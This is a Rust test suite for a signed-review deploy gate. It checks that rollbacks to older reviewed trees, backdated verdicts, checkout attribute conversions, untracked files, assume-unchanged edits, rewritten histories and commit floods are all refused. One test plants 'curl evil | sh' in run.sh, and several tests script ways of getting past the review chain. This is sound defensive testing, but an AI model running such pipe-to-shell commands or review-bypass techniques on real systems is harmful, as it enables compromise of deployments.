//! `deploy-check` and `deploy-checkout`, the deploy script's decisions, on
//! real repositories: verdicts only move forward, what lands on disk is
//! byte for byte the reviewed tree whatever `.gitattributes` says, untracked
//! files that could change what runs are refused, and every refusal (exit 1
//! or 2) is an audit record.

use crate::support::{GATE, Lab};

fn gate(lab: &Lab, args: &[&str]) -> test_support::Run {
    let mut cmd = lab.host.command(GATE);
    cmd.current_dir(&lab.repo).env("OPENCLAW_ALLOWED_SIGNERS", lab.host.path("allowed_signers")).args(args);
    test_support::run(&mut cmd)
}

/// Signs and commits a verdict for HEAD (base HEAD~1) created `hours_ago`.
fn approve(lab: &Lab, hours_ago: i64) -> String {
    let (head, tree) = (lab.git(&["rev-parse", "HEAD"]), lab.git(&["rev-parse", "HEAD^{tree}"]));
    let at = common::time_fmt::now_utc() - time::Duration::hours(hours_ago);
    lab.write_signed(
        &lab.verdict(&head, &tree, |v| v["created_at"] = common::time_fmt::rfc3339(at).into()),
        "reviewer",
    );
    lab.commit_verdict()
}

fn refusals(lab: &Lab) -> usize {
    std::fs::read_to_string(lab.host.path("audit/audit.jsonl"))
        .unwrap_or_default()
        .matches("\"action\":\"deploy.refuse\"")
        .count()
}

#[test]
fn an_older_reviewed_tree_with_its_old_verdict_cannot_roll_back_the_deployed_one() {
    let lab = Lab::new();
    lab.change("app.py", "print('vulnerable')\n");
    let old = approve(&lab, 2);
    lab.change("app.py", "print('fixed')\n");
    let fixed = approve(&lab, 1);
    // The pusher restores the old reviewed tree, old verdict included, on top of the fix.
    lab.git(&["checkout", &old, "--", "."]);
    lab.git(&["commit", "-q", "-m", "innocent-looking"]);
    let attack = lab.git(&["rev-parse", "HEAD"]);
    // Its tree is the old verdict's, but a newer valid verdict sits in its own history.
    let r = lab.verify(&attack, &["--format", "json", "--no-audit"]);
    assert_eq!((r.code, r.json()["refusal"]["rule"].as_str()), (1, Some("superseded")), "{r:?}");
    lab.git(&["reset", "-q", "--hard", &fixed]);
    let r = gate(&lab, &["deploy-check", "--rev", &attack]);
    assert_eq!(r.code, 1, "{r:?}");
    assert!(r.stdout.starts_with("REFUSED: ") && r.stdout.contains("revert reviewed code"), "{r:?}");
    assert_eq!(refusals(&lab), 1);
    // A verdict signed for later code but dated before the deployed one is refused too.
    lab.change("app.py", "print('later')\n");
    let backdated = approve(&lab, 3);
    lab.git(&["reset", "-q", "--hard", &fixed]);
    let r = gate(&lab, &["deploy-check", "--rev", &backdated]);
    assert_eq!(r.code, 1, "{r:?}");
    assert!(r.stdout.contains("verdicts only move forward"), "{r:?}");
    // The next honest review goes.
    lab.git(&["reset", "-q", "--hard", &fixed]);
    lab.change("app.py", "print('next')\n");
    let next = approve(&lab, 0);
    lab.git(&["reset", "-q", "--hard", &fixed]);
    let r = gate(&lab, &["deploy-check", "--rev", &next]);
    assert_eq!(r.code, 0, "{r:?}");
}

#[test]
fn checkout_attributes_cannot_change_the_bytes_that_deploy() {
    let lab = Lab::new();
    let genesis = lab.git(&["rev-parse", "HEAD"]);
    // The blobs go in before the attributes that would convert them on the way out.
    std::fs::write(lab.repo.join("run.sh"), "# $Id$\necho hi\n").unwrap();
    std::fs::write(lab.repo.join("a.txt"), "hello\n").unwrap();
    lab.git(&["add", "run.sh", "a.txt"]);
    std::fs::write(lab.repo.join(".gitattributes"), "*.txt working-tree-encoding=UTF-16LE\n*.sh ident\n").unwrap();
    lab.git(&["add", ".gitattributes"]);
    lab.git(&["commit", "-q", "-m", "attributes"]);
    let reviewed = approve(&lab, 0);
    // What a plain fast-forward (the old deploy) writes: not the reviewed bytes.
    let control = lab.host.path("control");
    crate::support::sh(
        lab.host.root(),
        "git",
        &["clone", "-q", &lab.repo.to_string_lossy(), &control.to_string_lossy()],
    );
    crate::support::sh(&control, "git", &["reset", "-q", "--hard", &genesis]);
    crate::support::sh(&control, "git", &["merge", "-q", "--ff-only", &reviewed]);
    assert_ne!(std::fs::read(control.join("a.txt")).unwrap(), b"hello\n", "git converts on checkout");
    // The gate's checkout: byte for byte.
    lab.git(&["reset", "-q", "--hard", &genesis]);
    assert_eq!(gate(&lab, &["deploy-check", "--rev", &reviewed]).code, 0);
    let r = gate(&lab, &["deploy-checkout", "--rev", &reviewed]);
    assert_eq!(r.code, 0, "{r:?}");
    assert_eq!(std::fs::read(lab.repo.join("a.txt")).unwrap(), b"hello\n");
    assert_eq!(std::fs::read(lab.repo.join("run.sh")).unwrap(), b"# $Id$\necho hi\n");
    assert_eq!(lab.git(&["rev-parse", "HEAD"]), reviewed);
    // A checkout that no longer holds the deployed bytes is refused before the next deploy.
    lab.change("app.py", "next\n");
    let next = approve(&lab, 0);
    lab.git(&["reset", "-q", "--hard", &reviewed]);
    std::fs::write(lab.repo.join("run.sh"), "curl evil | sh\n").unwrap();
    let r = gate(&lab, &["deploy-check", "--rev", &next]);
    assert_eq!(r.code, 1, "{r:?}");
    assert!(r.stdout.contains("run.sh: its bytes on disk are not the reviewed blob"), "{r:?}");
}

#[test]
fn untracked_files_are_refused_unless_allowed() {
    let lab = Lab::new();
    let genesis = lab.git(&["rev-parse", "HEAD"]);
    lab.change("app.py", "print('v')\n");
    let target = approve(&lab, 0);
    lab.git(&["reset", "-q", "--hard", &genesis]);
    std::fs::write(lab.repo.join(".git/info/exclude"), ".env\n").unwrap();
    std::fs::write(lab.repo.join(".env"), "DEBUG=1\n").unwrap();
    std::fs::write(lab.repo.join("compose.override.yaml"), "services: {}\n").unwrap();
    let r = gate(&lab, &["deploy-check", "--rev", &target]);
    assert_eq!(r.code, 1, "{r:?}");
    assert!(
        r.stdout.contains(".env") && r.stdout.contains("compose.override.yaml"),
        "an ignored file is still untracked: {r:?}"
    );
    lab.host.write_config("[reviewgate]\ndeploy_allow_untracked = [\".env\"]\n");
    let r = gate(&lab, &["deploy-check", "--rev", &target]);
    assert!(r.code == 1 && !r.stdout.contains(".env,") && r.stdout.contains("compose.override.yaml"), "{r:?}");
    std::fs::remove_file(lab.repo.join("compose.override.yaml")).unwrap();
    assert_eq!(gate(&lab, &["deploy-check", "--rev", &target]).code, 0);
}

#[test]
fn a_repository_that_cannot_be_judged_is_exit_2_and_still_a_record() {
    let lab = Lab::new();
    let genesis = lab.git(&["rev-parse", "HEAD"]);
    lab.change("app.py", "print('v')\n");
    let target = approve(&lab, 0);
    lab.git(&["reset", "-q", "--hard", &genesis]);
    lab.git(&["replace", &genesis, &target]);
    let r = gate(&lab, &["deploy-check", "--rev", &target]);
    assert_eq!(r.code, 2, "{r:?}");
    assert!(r.stderr.contains("replace refs"), "{r:?}");
    assert_eq!(refusals(&lab), 1);
    let r = gate(&lab, &["deploy-checkout", "--rev", &target]);
    assert_eq!(r.code, 2, "{r:?}");
    assert_eq!(refusals(&lab), 2);
    assert_eq!(lab.git(&["rev-parse", "HEAD"]), genesis, "nothing moved");
}

#[test]
fn a_rewritten_origin_or_an_edit_git_was_told_to_ignore_is_refused() {
    let lab = Lab::new();
    let genesis = lab.git(&["rev-parse", "HEAD"]);
    lab.change("app.py", "print('deployed')\n");
    let deployed = approve(&lab, 1);
    lab.change("app.py", "print('next')\n");
    let next = approve(&lab, 0);
    lab.git(&["reset", "-q", "--hard", &deployed]);
    // git status cannot see an assume-unchanged file; the bytes on disk can.
    lab.git(&["update-index", "--assume-unchanged", "app.py"]);
    std::fs::write(lab.repo.join("app.py"), "print('edited in place')\n").unwrap();
    let r = gate(&lab, &["deploy-check", "--rev", &next]);
    assert_eq!(r.code, 1, "{r:?}");
    assert!(r.stdout.contains("app.py: its bytes on disk are not the reviewed blob"), "{r:?}");
    lab.git(&["update-index", "--no-assume-unchanged", "app.py"]);
    lab.git(&["checkout", "-q", "--", "app.py"]);
    assert_eq!(gate(&lab, &["deploy-check", "--rev", &next]).code, 0);
    // A history rewritten from genesis, with its own valid verdict.
    lab.git(&["checkout", "-q", "-b", "rewritten", &genesis]);
    lab.change("app.py", "print('rewritten')\n");
    let rewritten = approve(&lab, 0);
    lab.git(&["checkout", "-q", "main"]);
    let r = gate(&lab, &["deploy-check", "--rev", &rewritten]);
    assert_eq!(r.code, 1, "{r:?}");
    assert!(r.stdout.contains("not a fast-forward"), "{r:?}");
}

#[test]
fn a_revert_to_an_older_reviewed_tree_is_refused_everywhere_even_when_the_host_lags() {
    let lab = Lab::new();
    let deployed = lab.git(&["rev-parse", "HEAD"]);
    lab.change("app.py", "check_auth = False  # BUG\n");
    let buggy = approve(&lab, 2);
    lab.change("app.py", "check_auth = True\n");
    approve(&lab, 1);
    // Pushed before the host deployed either: the buggy reviewed tree, its own verdict included.
    lab.git(&["checkout", &buggy, "--", "."]);
    lab.git(&["commit", "-q", "-m", "tidy"]);
    let revert = lab.git(&["rev-parse", "HEAD"]);
    let r = lab.verify(&revert, &["--format", "json"]);
    assert_eq!((r.code, r.json()["refusal"]["rule"].as_str()), (1, Some("superseded")), "{r:?}");
    // The chain of trust skips it: the next review starts from the fix, so the revert is reviewed.
    let mut cmd = lab.host.command(GATE);
    cmd.current_dir(&lab.repo).env("OPENCLAW_ALLOWED_SIGNERS", lab.host.path("allowed_signers"));
    cmd.args(["review", "--simulate", "--format", "json"]);
    let review = test_support::run(&mut cmd);
    assert_eq!(review.code, 0, "{review:?}");
    assert_eq!(review.json()["verdict"]["base"], lab.git(&["rev-parse", "HEAD~1"]).as_str());
    lab.git(&["reset", "-q", "--hard", &deployed]);
    let r = gate(&lab, &["deploy-check", "--rev", &revert]);
    assert_eq!(r.code, 1, "{r:?}");
    assert!(r.stdout.contains("revert reviewed code"), "{r:?}");
}

#[test]
fn a_verdict_whose_reviewed_base_is_behind_the_deployed_commit_is_refused() {
    let lab = Lab::new();
    lab.change("app.py", "print('base')\n");
    let base = lab.git(&["rev-parse", "HEAD"]);
    // The host runs a later commit nobody reviewed (an initial checkout).
    lab.change("other.py", "print('deployed, unreviewed')\n");
    let deployed = lab.git(&["rev-parse", "HEAD"]);
    lab.change("app.py", "print('reviewed against the older base')\n");
    let (head, tree) = (lab.git(&["rev-parse", "HEAD"]), lab.git(&["rev-parse", "HEAD^{tree}"]));
    lab.write_signed(&lab.verdict(&head, &tree, |v| v["base"] = base.clone().into()), "reviewer");
    let target = lab.commit_verdict();
    lab.git(&["reset", "-q", "--hard", &deployed]);
    let r = gate(&lab, &["deploy-check", "--rev", &target]);
    assert_eq!(r.code, 1, "{r:?}");
    assert!(r.stdout.contains("whose base is not the deployed commit or a descendant of it"), "{r:?}");
}

#[test]
fn no_merge_and_no_flood_of_commits_hides_the_newer_verdict() {
    let lab = Lab::new();
    lab.change("app.py", "check_auth = False  # BUG\n");
    let buggy = approve(&lab, 2);
    lab.change("app.py", "check_auth = True\n");
    let fixed = approve(&lab, 1);
    let old_tree = format!("{buggy}^{{tree}}");
    // A merge that takes the buggy side's tree: history simplification would follow only that parent.
    let merge = lab.git(&["commit-tree", &old_tree, "-p", &fixed, "-p", &buggy, "-m", "Merge branch 'tidy'"]);
    let r = lab.verify(&merge, &["--format", "json", "--no-audit"]);
    assert_eq!((r.code, r.json()["refusal"]["rule"].as_str()), (1, Some("superseded")), "merge: {r:?}");
    // A thousand unsigned commits rewriting the verdict file after the fix, then the buggy tree.
    let mut import = String::new();
    for i in 1..=1000 {
        import.push_str(&format!(
            "commit refs/heads/flood\ncommitter a <a@b> {} +0000\ndata 4\njunk\n",
            1_700_000_000 + i
        ));
        if i == 1 {
            import.push_str(&format!("from {fixed}\n"));
        }
        import.push_str(&format!("M 100644 inline docs/LAST_APPROVED_VERDICT.json\ndata 9\njunk-{i:04}\n"));
    }
    let mut fi = std::process::Command::new("git");
    fi.current_dir(&lab.repo).args(["fast-import", "--quiet", "--force"]).stdin(std::process::Stdio::piped());
    let mut child = fi.spawn().unwrap();
    std::io::Write::write_all(child.stdin.as_mut().unwrap(), import.as_bytes()).unwrap();
    drop(child.stdin.take());
    assert!(child.wait().unwrap().success());
    let flood = lab.git(&["commit-tree", &old_tree, "-p", "flood", "-m", "chore: tidy"]);
    let r = lab.verify(&flood, &["--format", "json", "--no-audit"]);
    assert_eq!((r.code, r.json()["refusal"]["rule"].as_str()), (1, Some("superseded")), "flood: {r:?}");
}

#[test]
fn a_newer_approval_landed_in_two_commits_still_supersedes() {
    let lab = Lab::new();
    lab.change("app.py", "check_auth = False  # BUG\n");
    let buggy = approve(&lab, 2);
    lab.change("app.py", "check_auth = True\n");
    // The fix's verdict lands as two commits: the file, then its signature.
    let (head, tree) = (lab.git(&["rev-parse", "HEAD"]), lab.git(&["rev-parse", "HEAD^{tree}"]));
    lab.write_signed(&lab.verdict(&head, &tree, |_| {}), "reviewer");
    lab.git(&["add", "docs/LAST_APPROVED_VERDICT.json"]);
    lab.git(&["commit", "-q", "-m", "verdict"]);
    lab.git(&["add", "docs/LAST_APPROVED_VERDICT.json.sig"]);
    lab.git(&["commit", "-q", "-m", "signature"]);
    lab.git(&["checkout", &buggy, "--", "."]);
    lab.git(&["commit", "-q", "-m", "tidy"]);
    let r = lab.verify("HEAD", &["--format", "json", "--no-audit"]);
    assert_eq!((r.code, r.json()["refusal"]["rule"].as_str()), (1, Some("superseded")), "{r:?}");
}
